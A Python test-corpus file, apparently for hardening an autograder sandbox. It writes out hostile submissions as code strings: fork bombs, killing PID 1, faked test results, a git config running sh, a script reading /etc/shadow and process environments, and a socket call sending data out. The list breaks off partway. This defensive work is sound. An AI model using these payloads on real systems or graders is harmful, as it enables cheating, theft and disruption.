"""The red-team corpus: broken and hostile submissions, each with the exact score it must get.

Every attack is the reference solution with one module changed (the edit format of
``examples/examples.json``: ``from`` a source folder, ``replace`` pairs, ``append``, or a whole
``source``), plus optional extra files. ``lost`` names the tests that must not pass: a task
name (``"task1"``) for all of its tests, a glob over test function names, or a glob over cases
(``test_chain_rule[*-chain_rule_analytic]``); ``kept`` names cases it matches that still pass.
Every other test must pass (or wait for a GPU). The exact total it must score with ``--gpu
off`` is computed from these and grading.yml (autograder/expected.py), never typed in.
``defence`` says what stops the attack; the threat-model table in docs/grading.md is generated
from these lines.

Placeholders filled in when the corpus is written to disk: ``@@PORT@@`` (a TCP/UDP port the
test listens on), ``@@SOCKET@@`` (a Unix socket of the host's that the test listens on, stream
and datagram), ``@@CANARY@@`` (a secret the grader's environment and files hold), ``@@MARK@@``
(a name for any file or process the attack leaves behind).

The sandbox cases (``SANDBOX_*``) try each escape with a call that fails harmlessly, or does
nothing if it succeeds (setting a value to what it already is); any success makes
``create_tensors`` answer wrongly, so the exact score shows that every attempt failed.
"""

from __future__ import annotations

from dataclasses import dataclass, field



@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # fault | tamper | cheat | escape
    attack: str
    defence: str
    lost: tuple[str, ...] = ()
    modules: dict = field(default_factory=dict)
    files: dict = field(default_factory=dict)
    packaging: str = "folder"  # folder | zip | zip-bomb | zip-encrypted | symlink | git | git-file
    status: str = "graded"
    # git: commits as (committer date, module edits), oldest first, and lines for .git/config
    commits: tuple = ()
    git_config: str = ""
    late: bool | None = None  # what the gradebook must say (git repositories only)
    # What a tier must offer for this defence to hold (checked where the tier has it, skipped
    # with the reason elsewhere): "pid_namespace" (its own processes only), "disk_budget".
    needs: tuple[str, ...] = ()
    # Cases that pass although `lost` names them (a coincidentally right answer).
    kept: tuple[str, ...] = ()


DEADLINE = "2026-11-20T23:59:00+00:00"
BEFORE, AFTER = "2026-11-19T12:00:00+00:00", "2026-11-21T12:00:00+00:00"


def stub(module: str, code: str = "") -> dict:
    """The unimplemented stub of `module`, with `code` added at its end."""
    return {module: {"from": "assignment", **({"append": code} if code else {})}}


def append(module: str, code: str) -> dict:
    return {module: {"append": code}}


# -- shared attack code ---------------------------------------------------------------------

ESCAPES = r'''
import ctypes, errno, os, platform, resource, socket

_ESCAPED = []
_NR = {"x86_64": {"keyctl": 250, "ioprio_set": 251, "mq_open": 240},
       "aarch64": {"keyctl": 219, "ioprio_set": 30, "mq_open": 180}}[platform.machine()]
_libc = ctypes.CDLL(None, use_errno=True)


def _attempt(what, action):
    try:
        result = action()
    except OSError as exc:
        print("blocked:", what, errno.errorcode.get(exc.errno, exc.errno))
        return
    if result is False:
        return
    print("ESCAPED:", what)
    _ESCAPED.append(what)


def _c(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "failed")


_reference_create_tensors = create_tensors


def create_tensors():
    out = _reference_create_tensors()
    return {k: v + 1 for k, v in out.items()} if _ESCAPED else out
'''

ROOT_PRIVILEGES = ESCAPES + r'''
def _capabilities():
    with open("/proc/self/status") as f:
        caps = {k: int(v, 16) for k, v in (l.split(":") for l in f if l.startswith("Cap"))}
    return any(caps.values())


_attempt("holds capabilities", _capabilities)
_attempt("mknod of a /dev/null twin", lambda: os.mknod("null-@@MARK@@", 0o20666, os.makedev(1, 3)))
_attempt("mknod of a block device", lambda: os.mknod("disk-@@MARK@@", 0o60600, os.makedev(7, 0)))
_attempt("a named pipe", lambda: os.mkfifo("fifo-@@MARK@@"))
_attempt("sethostname", lambda: socket.sethostname(socket.gethostname()))
_attempt("SCHED_FIFO", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
_attempt("keyctl", lambda: _c(_libc.syscall(_NR["keyctl"], 0, -3, 0, 0, 0)))
_attempt("new namespaces", lambda: _c(_libc.unshare(0x40000000 | 0x08000000)))
_attempt("mount", lambda: _c(_libc.mount(b"none", b"tmp", b"tmpfs", 0, None)))
'''

SNOOP_PROCESSES = ESCAPES + r'''
def _grader_visible():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if b"batch" in f.read() and int(pid) != os.getpid():
                        return True
            except OSError:
                pass
    return False


def _keys():
    with open("/proc/keys") as f:
        return bool(f.read().strip())


_attempt("the grader's command line", _grader_visible)
_attempt("keys in /proc/keys", _keys)
'''

REACH_OTHER_PROCESSES = ESCAPES + r'''
_targets = {os.getppid(), 1} | {int(p) for p in os.listdir("/proc") if p.isdigit()} - {os.getpid(), 0}
for _pid in sorted(_targets)[:200]:
    _attempt(f"prlimit on {_pid}", lambda: resource.prlimit(_pid, resource.RLIMIT_FSIZE))
    # (each set below writes back the value just read: harmless even where it works)
    _attempt(f"renice {_pid}", lambda: os.setpriority(os.PRIO_PROCESS, _pid, os.getpriority(os.PRIO_PROCESS, _pid)))
    _attempt(f"affinity of {_pid}", lambda: os.sched_setaffinity(_pid, os.sched_getaffinity(_pid)))
_attempt("renice every process of its uid", lambda: os.setpriority(os.PRIO_USER, 0, os.getpriority(os.PRIO_USER, 0)))
_attempt("ioprio of the parent", lambda: _c(_libc.syscall(_NR["ioprio_set"], 1, os.getppid(), 0)))
'''

HOST_UNIX_SOCKET = ESCAPES + r'''
def _stream():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("@@SOCKET@@")
    s.sendall(b"@@MARK@@ stream")


def _datagram():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"@@MARK@@ datagram", "@@SOCKET@@.dgram")


def _abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0@@SOCKET@@")
    s.sendall(b"@@MARK@@ abstract")


_attempt("the host's Unix socket", _stream)
_attempt("the host's datagram socket", _datagram)
_attempt("the host's abstract socket", _abstract)
'''

SYSV_IPC = ESCAPES + r'''
_libc.shmat.restype = ctypes.c_void_p
for _i in range(8):
    _attempt(f"System V shared memory {_i}", lambda: _c(_libc.shmget(0x5EED0 + _i, 64 << 20, 0o1666)))
_attempt("a semaphore set", lambda: _c(_libc.semget(0x5EED, 4, 0o1666)))
_attempt("a message queue", lambda: _c(_libc.msgget(0x5EED, 0o1666)))
_attempt("a POSIX message queue", lambda: _c(_libc.syscall(_NR["mq_open"], b"/@@MARK@@", os.O_CREAT | os.O_RDWR, 0o600, None)))
'''

ZERO_STRIDE_RELU = r'''
class CustomReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        ctx.save_for_backward(input)
        return torch.zeros(1).expand(30000, 30000)  # four bytes, 900 million elements

    @staticmethod
    def backward(ctx, grad_output):
        (input,) = ctx.saved_tensors
        return grad_output * (input > 0)
'''

FAKE_GPU = r'''
import torch
torch.cuda.is_available = lambda: True  # what the grader used to ask the worker
try:
    import wire  # the worker's own encoder, from its runtime folder: label every tensor cuda:0

    _encode_tensor = wire.Encoder._tensor

    def _on_a_gpu(self, t):
        node = _encode_tensor(self, t)
        node["$tensor"]["device"] = "cuda:0"
        return node

    wire.Encoder._tensor = _on_a_gpu
except ImportError:
    pass
'''

NAN_SPEEDUPS = r'''
_reference_speedup_table = speedup_table


def speedup_table(rows):
    return [dict(e, speedup=float("nan")) if e["speedup"] is not None else e
            for e in _reference_speedup_table(rows)]
'''

DISK_FILL = ESCAPES + r'''
def _fill():
    written = 0
    try:
        for i in range(24):
            with open(f"fill-{i}", "wb") as f:
                for _ in range(60):
                    f.write(b"x" * 2**20)
                    written += 1
    except OSError as exc:
        print("disk full after", written, "MB:", errno.errorcode.get(exc.errno))
    for i in range(24):
        try:
            os.unlink(f"fill-{i}")
        except OSError:
            pass
    return written > 300  # the work folder's budget is 256 MB


_attempt("more than the disk budget", _fill)
'''

WRONG_TENSORS = '''
def create_tensors():
    return {k: torch.zeros(1) for k in ("random_3x4", "zeros_2x3x4", "ones_5x5", "range_4x4")}
def tensor_operations(a, b):
    return {k: torch.zeros(1) for k in ("transpose", "matmul", "elementwise", "sum")}
def index_tensor(t):
    return {k: torch.zeros(1) for k in ("first_row", "last_column", "corner", "every_other")}
def reshape_tensor(t):
    return {}
'''

PATCH_COMPARISONS = '''
import torch, torch.testing, torch.autograd, numpy
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros((), dtype=torch.bool)
torch.autograd.gradcheck = lambda *a, **k: True
torch.autograd.gradcheck.gradcheck = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
'''

PATCH_BUILTINS = '''
import builtins
_real_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: True
builtins.type = lambda *a: object
builtins.len = lambda obj: 4
builtins.print = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''

PATCH_PYTEST = '''
import sys
try:
    import pytest, _pytest.outcomes, _pytest.runner, _pytest.reports
    pytest.fail = lambda *a, **k: None
    _pytest.outcomes.fail = lambda *a, **k: None
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.runner.call_and_report = lambda *a, **k: None
except Exception as exc:
    print("pytest not importable here:", exc)
sys.modules["pytest"] = None
'''

CONFTEST = '''
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"

def pytest_collection_modifyitems(items):
    items[:] = []
'''

TENSOR_SUBCLASS = '''
class Liar(torch.Tensor):
    """Claims to equal anything, and answers every torch function with 'equal'."""
    def __eq__(self, other):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("equal", "allclose", "isclose", "eq"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def _liar(shape=(1,)):
    return torch.zeros(shape).as_subclass(Liar)

def create_tensors():
    return {k: _liar() for k in ("random_3x4", "zeros_2x3x4", "ones_5x5", "range_4x4")}
def tensor_operations(a, b):
    return {k: _liar() for k in ("transpose", "matmul", "elementwise", "sum")}
def index_tensor(t):
    return {k: _liar() for k in ("first_row", "last_column", "corner", "every_other")}
def reshape_tensor(t):
    return {(2, 12): _liar(), (4, 6): _liar(), (2, 3, 4): _liar()}
'''

ALWAYS_EQUAL = '''
class Anything:
    """Equal to everything, the right shape for every question, a number and a tensor at once."""
    shape = property(lambda self: self._shape)
    dtype = torch.float32
    def __init__(self, shape=()):
        self._shape = torch.Size(shape)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __getattr__(self, name): return Anything()
    def __call__(self, *a, **k): return Anything()
    def __getitem__(self, key): return Anything()
    def __len__(self): return 3
    def __iter__(self): return iter([Anything(), Anything()])
    def __hash__(self): return 0

def _any(*a, **k):
    return Anything()

simple_gradients = analytic_simple_gradients = mse = linear_mse_gradients = _any
analytic_linear_mse_gradients = chain_rule_backward = chain_rule_autograd_grad = _any
chain_rule_analytic = second_derivative = quadratic_form_hessian = accumulated_gradient = _any

class CustomReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        return Anything()
    @staticmethod
    def backward(ctx, grad_output):
        return Anything()
'''

FAKE_OUTPUT = r'''
import json, os, sys
_fake = {"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100, "status": "passed"}]}
print("tests/test_tensors.py::test_create_tensors_values PASSED")
print("=================== 125 passed in 0.10s ===================")
print("Total (tests run here)             100 / 100")
print(json.dumps(_fake))
sys.stderr.write("\x1b[2J\x1b[H\x1b[32mALL TESTS PASSED\x1b[0m\n")
for _folder in (".", os.environ.get("HOME", "."), "/tmp", "/autograder/results", "/autograder",
                os.path.dirname(__file__), os.path.dirname(os.path.dirname(__file__)),
                os.path.dirname(sys.executable), sys.prefix, os.getcwd() + "/..", "/"):
    for _name in ("results.json", "@@MARK@@-results.json", "record.json", "@@MARK@@-record.json", "gradebook.csv",
                  "feedback.md"):
        try:
            os.makedirs(_folder, exist_ok=True)
            with open(os.path.join(_folder, _name), "w") as _f:
                json.dump(_fake, _f)
        except OSError:
            pass
'''

DELEGATE = r'''
import glob, importlib.util, os, sys

def _candidates():
    """Every place the reference solutions or the hidden tests might be."""
    roots = {os.path.dirname(os.path.dirname(os.path.dirname(sys.executable))), os.path.dirname(sys.prefix),
             os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "/work", "/root", "/home", "/srv",
             "/autograder", "/autograder/source", "/tmp", "/proc/1/cwd", "/proc/1/root"}
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        for link in ("cwd", "root"):
            try:
                roots.add(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                print("environ of", pid, f.read()[:2000])
        except OSError:
            pass
    for mod in ("autograder", "solutions", "tests"):
        try:
            spec = importlib.util.find_spec(mod)
            if spec and spec.origin:
                roots.add(os.path.dirname(os.path.dirname(spec.origin)))
        except Exception:
            pass
    found = []
    for root in roots:
        for pattern in ("solutions/homework_tensors.py", "*/solutions/homework_tensors.py",
                        "*/*/solutions/homework_tensors.py", "autograder/hidden/*.py", "*/autograder/hidden/*.py"):
            found += glob.glob(os.path.join(root, pattern))
    return found

_SOLUTION = None
for _path in _candidates():
    try:
        with open(_path) as _f:
            _text = _f.read()
        print("FOUND", _path, _text[:20000])
        if _path.endswith("solutions/homework_tensors.py"):
            _spec = importlib.util.spec_from_file_location("stolen_reference", _path)
            _SOLUTION = importlib.util.module_from_spec(_spec)
            _spec.loader.exec_module(_SOLUTION)
    except Exception as exc:
        print("blocked:", _path, type(exc).__name__)
try:
    print(open("/etc/shadow").read())
except Exception as exc:
    print("blocked: /etc/shadow", type(exc).__name__)
print("environ:", dict(os.environ))

if _SOLUTION is not None:
    create_tensors = _SOLUTION.create_tensors
    tensor_operations = _SOLUTION.tensor_operations
    index_tensor = _SOLUTION.index_tensor
    reshape_tensor = _SOLUTION.reshape_tensor
'''

NETWORK = r'''
import socket

def _phone_home(payload: bytes) -> None:
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
                         (socket.AF_INET, socket.SOCK_DGRAM)):
        host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
        try:
            s = socket.socket(family, kind)
            s.settimeout(1.0)
            if kind == socket.SOCK_STREAM:
                s.connect((host, @@PORT@@))
                s.sendall(payload)
            else:
                s.sendto(payload, (host, @@PORT@@))
            s.close()
        except OSError as exc:
            print("network blocked:", host, type(exc).__name__)
    try:
        socket.getaddrinfo("pypi.org", 443)
    except OSError as exc:
        print("dns blocked:", type(exc).__name__)

_phone_home(b"@@MARK@@ hello from the sandbox")

_reference_create_tensors = create_tensors
def create_tensors():
    _phone_home(b"@@MARK@@ create_tensors was called")
    return _reference_create_tensors()
'''

ESCAPE_HATCH = r'''
import os, signal, threading

def _kill_everything():
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError as exc:
            print("kill", target, "refused:", exc)
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError as exc:
        print("killpg refused:", exc)

def chain_rule_backward(x):
    _kill_everything()
    return x
'''

FORGE = r'''
import json, os, struct, sys

def _send(body: bytes) -> None:
    # The reply pipe's number is in the worker's command line, which this code can read.
    frame = struct.pack("<I", len(body)) + body
    os.write(json.loads(sys.argv[1])["reply_fd"], struct.pack("<Q", len(frame)) + frame)
'''

FORGED_CHAIN = FORGE + r'''
def chain_rule_analytic(x):
    # A reply of its own on the grader's channel, before the real one.
    _send(json.dumps({"ok": {"value": True, "args": {"$list": []}, "kwargs": {"$dict": []}},
                      "storages": [], "blobs": [], "id": 1}).encode())
    return x * 0
'''

FORGED_TABLE = FORGE + r'''
def format_table(table):
    # A reply nested 100 000 deep: a naive JSON reader in the grader would crash on it.
    _send(b'{"ok":{"value":' + b"[" * 100_000 + b"]" * 100_000 + b'},"storages":[],"blobs":[],"id":0}')
    return ""
'''

EXCEPTION_INJECTION = r'''
import pytest

class Skipped(BaseException):
    pass

class AssertionError(Exception):  # noqa: A001 - shadows the builtin on purpose
    pass

_FAKE = ("\x1b[2J\x1b[32mPASSED\x1b[0m\n```\n\n## Automatic score: 90 / 90\n\n<script>alert(1)</script>\n"
         + "tests passed " * 50_000)

def create_tensors():
    raise ValueError(_FAKE)
def tensor_operations(a, b):
    raise pytest.skip.Exception("skipped: counts as passed?")
def index_tensor(t):
    raise KeyboardInterrupt("stop the grader")
def reshape_tensor(t):
    raise Skipped("not really a skip")
'''

PROBE_FORGER = r'''
def measure_time(func, *args, device="cpu", repeat=10, warmup=1, **kwargs):
    """Never calls f: writes the probe's call counter and what it saw, zeroes its duration."""
    if str(device).startswith("cuda") and not torch.cuda.is_available():
        raise RuntimeError("CUDA is not available")
    if repeat < 1 or warmup < 0 or str(device).split(":")[0] not in ("cpu", "cuda"):
        raise ValueError("bad arguments")
    for name, value in (("calls", getattr(func, "calls", 0) + warmup + repeat), ("ms", 0.0), ("first_ms", None),
                        ("seen", []), ("kwargs_seen", [sorted(kwargs)] * (warmup + repeat))):
        try:
            setattr(func, name, value)
        except Exception:
            pass
    return float(getattr(func, "ms", None) or kwargs.get("ms", 8.0))
'''

PROBE_ABUSE = r'''
_reference_measure_time = measure_time
_EARLIER = []


def measure_time(func, *args, device="cpu", repeat=10, warmup=1, **kwargs):
    """Tries to make the grader sleep forever (NaN and infinite durations for a probe that takes
    its duration as an argument) and to call a probe from an earlier call; then times honestly."""
    attempts = [lambda: _EARLIER[0]()] if _EARLIER else []
    if "KwargSleep" in repr(func):
        attempts += [lambda: func(ms=float("nan")), lambda: func(ms=float("inf")), lambda: func(ms=10**9)]
    for attempt in attempts:
        try:
            attempt()
        except Exception as exc:
            print("refused:", type(exc).__name__, exc)
    _EARLIER[:] = [func]
    return _reference_measure_time(func, *args, device=device, repeat=repeat, warmup=warmup, **kwargs)
'''

CONSTANT_HARNESS = r'''
def measure_time(func, *args, device="cpu", repeat=10, warmup=1, **kwargs):
    """Calls f exactly warmup + repeat times, waits for the GPU, then returns a constant."""
    if str(device).startswith("cuda") and not torch.cuda.is_available():
        raise RuntimeError("CUDA is not available")
    if repeat < 1 or warmup < 0 or str(device).split(":")[0] not in ("cpu", "cuda"):
        raise ValueError("bad arguments")
    for _ in range(warmup + repeat):
        func(*args, **kwargs)
    if str(device).startswith("cuda"):
        torch.cuda.synchronize()
    return 8.0
'''

MUTATE_INPUTS = r'''
def tensor_operations(a, b):
    """Wrong answers, then overwrite the caller's inputs so that a reference computed from them
    afterwards would agree."""
    result = {"transpose": torch.zeros(a.shape[::-1]), "matmul": torch.zeros(a.shape[0], b.shape[1]),
              "elementwise": torch.zeros(a.shape), "sum": torch.zeros(())}
    a.zero_()
    b.zero_()
    return result

def index_tensor(t):
    t.zero_()
    return {"first_row": t[0, 0], "last_column": t[:, :, -1], "corner": t[:2, :2, :2], "every_other": t[::2, ::2]}
'''

MODULE_GETATTR = r'''
import torch

def __getattr__(name):
    # Any function the tests ask for exists, and answers with its first argument.
    return lambda *args, **kwargs: args[0] if args else torch.zeros(1)
'''

HOSTILE_GIT_CONFIG = r'''
[filter "evil"]
	smudge = sh -c 'touch /tmp/@@MARK@@-smudge; cat'
	clean = sh -c 'touch /tmp/@@MARK@@-clean; cat'
	required = true
[core]
	fsmonitor = sh -c 'touch /tmp/@@MARK@@-fsmonitor'
	pager = sh -c 'touch /tmp/@@MARK@@-pager; cat'
	hooksPath = .githooks
[alias]
	archive = !touch /tmp/@@MARK@@-alias
'''

LAZY_RAISE = "raise ValueError('invalid input')"
LAZY_NONE = "return None"
LAZY_CUDA = "raise RuntimeError('CUDA is not available on this machine')"


def lazy(body: str) -> dict:
    """Every stub's `raise NotImplementedError(...)` replaced by one line (`body`): no work at all."""
    return {m: {"from": "assignment", "stub_body": body} for m in ("tensors", "autograd", "performance")}


ATTACKS: list[Attack] = [
    # -- faults: broken code must cost only its own tests ------------------------------------
    Attack("syntax_error", "fault", "a syntax error in homework_tensors.py",
           "the module's import fails in the worker; only its task scores 0, with the error shown",
           ("task1",), {"tensors": {"replace": [["def create_tensors(", "def create_tensors(("]]}}),
    Attack("import_error", "fault", "imports a package that does not exist",
           "import failure reported per module; the other tasks are graded", ("task2",),
           {"autograd": {"replace": [["import torch\n", "import torch\nimport torchgrad_helpers\n"]]}}),
    Attack("infinite_loop_at_import", "fault", "`while True: pass` at module level",
           "import timeout (limits.import_timeout_s), worker killed, module marked unusable once",
           ("task3",), append("performance", "while True:\n    pass")),
    Attack("infinite_loop_in_function", "fault", "format_table never returns",
           "per-call timeout (limits.call_timeout_s), worker killed and restarted for the next test; "
           "after two timeouts the function is not called again", ("test_format_table*",),
           append("performance", "def format_table(table):\n    while True:\n        pass")),
    Attack("infinite_loop_in_measure_time", "fault", "measure_time never returns (and benchmark, "
           "which calls it, neither)", "two timeouts per function, then its later calls fail at once "
           "with the reason (the whole grading also has limits.grading_timeout_s)",
           ("test_measure_time*", "test_benchmark*"),
           append("performance", "def measure_time(func, *args, device='cpu', repeat=10, warmup=1, **kwargs):\n"
                                 "    while True:\n        pass")),
    Attack("infinite_loop_in_index_tensor", "fault", "index_tensor never returns",
           "two timeouts, then index_tensor's later calls fail at once; the other functions keep "
           "every point", ("test_index_tensor*",),
           append("tensors", "def index_tensor(t):\n    while True:\n        pass")),
    Attack("runaway_recursion", "fault", "reshape_tensor calls itself forever",
           "RecursionError is an ordinary wrong answer", ("test_reshape_tensor*",),
           append("tensors", "def reshape_tensor(t):\n    return reshape_tensor(t)")),
    Attack("stack_overflow_segfault", "fault",
           "raises the recursion limit and recurses through a C function until the C stack overflows",
           "the worker dies (SIGSEGV); the grader reports the crash and restarts it",
           ("test_index_tensor*",),
           append("tensors", "import sys\nsys.setrecursionlimit(10**8)\n"
                             "def _deeper(n):\n    return list(map(_deeper, [n + 1]))\n"
                             "def index_tensor(t):\n    return _deeper(0)")),
    Attack("memory_bomb_at_import", "fault", "allocates 16 GB when imported",
           "RLIMIT_AS + cgroup memory limit (limits.memory_mb): the allocation fails",
           ("task1",), append("tensors", "_hog = torch.ones(2**31, dtype=torch.float64)")),
    Attack("memory_bomb_in_function", "fault", "create_tensors grows a list until memory runs out",
           "RLIMIT_AS / cgroup memory limit; MemoryError or a killed worker fails only that call",
           ("test_create_tensors*",),
           append("tensors", "def create_tensors():\n    hog = []\n    while True:\n"
                             "        hog.append(bytearray(64 * 2**20))")),
    Attack("fork_bomb", "fault", "make_tensors forks until no more processes can start",
           "cgroup pids limit / PID namespace; forks never answer the grader (at-fork hook), "
           "the worker's whole tree is killed on restart",
           ("test_make_tensors*", "test_benchmark*"),
           append("performance", "import os\ndef make_tensors(shapes, seed=0):\n    while True:\n"
                                 "        try:\n            os.fork()\n        except OSError:\n"
                                 "            pass")),
    Attack("hundreds_of_processes", "fault",
           "starts 300 long-running `sleep` processes at import and keeps going",
           "cgroup pids limit (limits.processes); every process is killed with the worker",
           (), append("tensors", "import subprocess\n_kids = []\nfor _ in range(300):\n    try:\n"
                                       "        _kids.append(subprocess.Popen(['sleep', '3137']))\n"
                                       "    except OSError:\n        break\n")),
    Attack("os_exit", "fault", "speedup_table calls os._exit(0)",
           "the death is a failed call; a fresh worker serves the next test",
           ("test_speedup_table*",),
           append("performance", "import os\ndef speedup_table(rows):\n    os._exit(0)")),
    Attack("sys_exit", "fault", "create_tensors calls sys.exit(0)",
           "SystemExit is caught in the worker and reported as a wrong answer",
           ("test_create_tensors*",),
           append("tensors", "import sys\ndef create_tensors():\n    sys.exit(0)")),
    Attack("sigkill_self", "fault", "chain_rule_autograd_grad sends SIGKILL to its own process",
           "the death is a failed call; a fresh worker serves the next test",
           ("test_chain_rule[*-chain_rule_autograd_grad]", "test_chain_rule_matches_reference[*-chain_rule_autograd_grad]"),
           append("autograd", "import os, signal\ndef chain_rule_autograd_grad(x):\n"
                              "    os.kill(os.getpid(), signal.SIGKILL)")),
    Attack("segfault", "fault", "index_tensor dereferences a null pointer with ctypes",
           "SIGSEGV kills only the worker", ("test_index_tensor*",),
           append("tensors", "import ctypes\ndef index_tensor(t):\n    return ctypes.string_at(0)")),
    Attack("output_flood", "fault", "writes 60 MB to stdout and stderr at import and in every call",
           "output pipes drained and capped (limits.output_kb); prints never reach the verdict",
           (), append("tensors", "import sys\nsys.stdout.write('x' * 30_000_000)\n"
                                       "sys.stderr.write('y' * 30_000_000)\n"
                                       "_ref_ops = tensor_operations\n"
                                       "def tensor_operations(a, b):\n    print('z' * 1_000_000)\n"
                                       "    return _ref_ops(a, b)")),
    Attack("reads_stdin", "fault", "reads standard input at import and in a function",
           "stdin is /dev/null: reading returns at once instead of hanging",
           (), append("autograd", "import sys\n_typed = sys.stdin.read()\n_ref_mse = mse\n"
                                        "def mse(y_pred, y_true):\n    sys.stdin.readline()\n"
                                        "    return _ref_mse(y_pred, y_true)")),
    Attack("global_torch_state", "fault",
           "sets float64 as default dtype, a fixed seed, 1 thread and grad mode off at import",
           "one worker per module: only this module's own results change; the grader's own "
           "process never sees the change", (),
           append("performance", "torch.set_default_dtype(torch.float64)\ntorch.manual_seed(1234)\n"
                                 "torch.set_num_threads(1)\ntorch.set_grad_enabled(False)")),
    Attack("disk_flood", "fault", "writes a 1 GB file at import, then works normally",
           "RLIMIT_FSIZE (limits.file_size_mb) stops the write; the folder is a tmpfs that ends with the sandbox",
           (), append("autograd", "try:\n    with open('big.bin', 'wb') as _f:\n"
                                        "        for _ in range(1024):\n            _f.write(b'0' * 2**20)\n"
                                        "except OSError as exc:\n    print('write stopped:', exc)")),
    # -- tampering with the grader ------------------------------------------------------------
    Attack("pytest_config_files", "tamper",
           "ships conftest.py, pytest.ini, pyproject.toml, setup.cfg, tox.ini, sitecustomize.py, "
           "usercustomize.py, a .pth file and a fake torch.py; no homework written",
           "only homework_*.py are copied; pytest runs with -c <empty ini> --noconftest, no plugin "
           "autoload; the worker is `python -I`", ("task1", "task2", "task3"),
           {**stub("tensors"), **stub("autograd"), **stub("performance")},
           {"conftest.py": CONFTEST, "tests/conftest.py": CONFTEST,
            "pytest.ini": "[pytest]\naddopts = -p no:randomly --co\n",
            "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
            "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n", "tox.ini": "[pytest]\naddopts = --co\n",
            "sitecustomize.py": "import os\nos.environ['PYTEST_ADDOPTS'] = '--co'\n",
            "usercustomize.py": "raise SystemExit(0)\n", "evil.pth": "import os; os._exit(0)\n",
            "torch.py": "def allclose(*a, **k):\n    return True\n"}),
    Attack("patch_comparisons", "tamper",
           "wrong answers, and at import replaces torch.allclose, torch.equal, assert_close, "
           "Tensor.__eq__ and gradcheck with functions that always agree",
           "the patches live in the worker; every comparison runs in the grader's own process",
           ("task1",), append("tensors", PATCH_COMPARISONS + WRONG_TENSORS)),
    Attack("patch_builtins", "tamper", "wrong answers, and replaces isinstance, type, len, print, "
           "AssertionError in builtins", "builtins of the worker are not the grader's; replies are "
           "checked by exact type in the grader", ("task1",),
           append("tensors", WRONG_TENSORS + PATCH_BUILTINS)),
    Attack("patch_pytest", "tamper", "imports pytest and replaces pytest.fail, TestReport.passed "
           "and call_and_report", "pytest in the worker is a different process's pytest",
           ("task2",), stub("autograd", PATCH_PYTEST)),
    Attack("tensor_subclass_liar", "tamper", "returns a Tensor subclass whose __eq__ and "
           "__torch_function__ claim equality", "non-plain tensors stay opaque handles in the worker; "
           "checks demand type(x) is torch.Tensor", ("task1",), append("tensors", TENSOR_SUBCLASS)),
    Attack("always_equal_object", "tamper", "returns an object equal to everything, with any "
           "attribute and shape", "only plain data crosses the wire; anything else is a handle "
           "that equals only itself", ("task2",), append("autograd", ALWAYS_EQUAL)),
    Attack("module_getattr", "tamper", "a module-level __getattr__ that answers any function "
           "name with its first argument", "exact checks of every returned value", ("task1",),
           {"tensors": {"source": MODULE_GETATTR}}),
    Attack("fake_results", "tamper", "prints fake PASSED lines and scores, ANSI escapes, and "
           "writes record.json, results.json, gradebook.csv and feedback.md everywhere it can",
           "stdout never feeds the verdict; the worker can write only its private folder; "
           "the grader writes its outputs itself", ("task1",), stub("tensors", FAKE_OUTPUT)),
    Attack("exception_injection", "tamper", "raises exceptions with terminal escapes, a fake "
           "markdown score, HTML, 650 kB messages, pytest's Skipped, KeyboardInterrupt and a "
           "home-made AssertionError", "exceptions become builtin types by name only (never "
           "skip/exit); messages are cleaned of control characters and fenced in feedback",
           ("task1",), append("tensors", EXCEPTION_INJECTION)),
    Attack("forged_replies", "tamper", "writes its own reply frames on the grader's pipe, "
           "including one nested 100 000 levels deep", "replies carry the request id; an "
           "out-of-step or malformed reply is a protocol error and the worker is restarted",
           ("test_chain_rule[*-chain_rule_analytic]", "test_chain_rule_matches_reference[*-chain_rule_analytic]",
            "test_format_table*"),
           {**append("autograd", FORGED_CHAIN), **append("performance", FORGED_TABLE)}),
    # -- escaping the sandbox -------------------------------------------------------------------
    Attack("steal_solutions", "escape", "searches the disk (/proc, the venv's editable install, "
           "/work, /tmp ...) for solutions/ and the hidden tests, prints them, and delegates to the "
           "reference if found", "a root of its own (bubblewrap, or the launcher's mount namespace) + "
           "Landlock: only the Python install, the worker's runtime and its own folder exist", ("task1",), stub("tensors", DELEGATE)),
    Attack("network", "escape", "connects to a server on the grader's machine (TCP, IPv6, UDP) "
           "and resolves a host name", "seccomp: no socket but AF_UNIX (every tier); a network "
           "namespace with no interfaces; Landlock blocks TCP", (), append("tensors", NETWORK)),
